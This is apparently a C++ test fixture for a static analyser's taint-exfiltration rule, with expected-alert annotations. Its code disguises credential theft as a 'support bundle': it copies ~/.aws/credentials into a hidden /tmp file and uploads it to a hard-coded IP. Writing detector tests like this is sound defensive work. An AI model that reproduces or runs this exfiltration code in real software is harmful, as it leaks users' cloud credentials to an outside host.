// behavior.exfiltration: a "support bundle" collector in C++. It copies
// ~/.aws/credentials (std::ifstream) into a bundle file under /tmp
// together with harmless system information, then uploads the bundle as a
// multipart form whose file part libcurl reads by name
// (curl_mime_filedata). The credential bytes go through a file on disk
// that the program never reads itself. taint.exfiltration still sees the
// bundle file's content reach the upload (curl_mime_filedata) and reports
// it, so behavior.exfiltration stays quiet here (covered-by). The libcurl
// declarations are written out.
#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>
#include <sys/utsname.h>

extern "C" {
typedef void CURL;
typedef struct curl_mime curl_mime;
typedef struct curl_mimepart curl_mimepart;
typedef enum {
    CURLOPT_URL = 10002,
    CURLOPT_MIMEPOST = 10269
} CURLoption;
CURL *curl_easy_init(void);
curl_mime *curl_mime_init(CURL *easy);
curl_mimepart *curl_mime_addpart(curl_mime *mime);
int curl_mime_name(curl_mimepart *part, const char *name);
int curl_mime_filedata(curl_mimepart *part, const char *filename);
void curl_mime_free(curl_mime *mime);
int curl_easy_setopt(CURL *curl, CURLoption option, ...);
int curl_easy_perform(CURL *curl);
void curl_easy_cleanup(CURL *curl);
}

static const char *const kBundle = "/tmp/.support-bundle.txt";

static void collect()
{
    std::ofstream bundle(kBundle, std::ios::trunc);
    utsname u;
    if (uname(&u) == 0)
        bundle << "host: " << u.nodename << " " << u.release << "\n";
    const char *home = std::getenv("HOME");
    std::ifstream creds(std::string(home ? home : "") + "/.aws/credentials");
    bundle << creds.rdbuf();
}

static int upload()
{
    CURL *c = curl_easy_init();
    if (!c)
        return -1;
    curl_mime *form = curl_mime_init(c);
    curl_mimepart *part = curl_mime_addpart(form);
    curl_mime_name(part, "bundle");
    curl_mime_filedata(part, kBundle);
    curl_easy_setopt(c, CURLOPT_URL, "http://185.199.10.7/upload/bundle");
    curl_easy_setopt(c, CURLOPT_MIMEPOST, form); // $ Alert[taint.exfiltration]
    int rc = curl_easy_perform(c);
    curl_mime_free(form);
    curl_easy_cleanup(c);
    return rc;
}

int main()
{
    collect();
    return upload() == 0 ? 0 : 1;
}
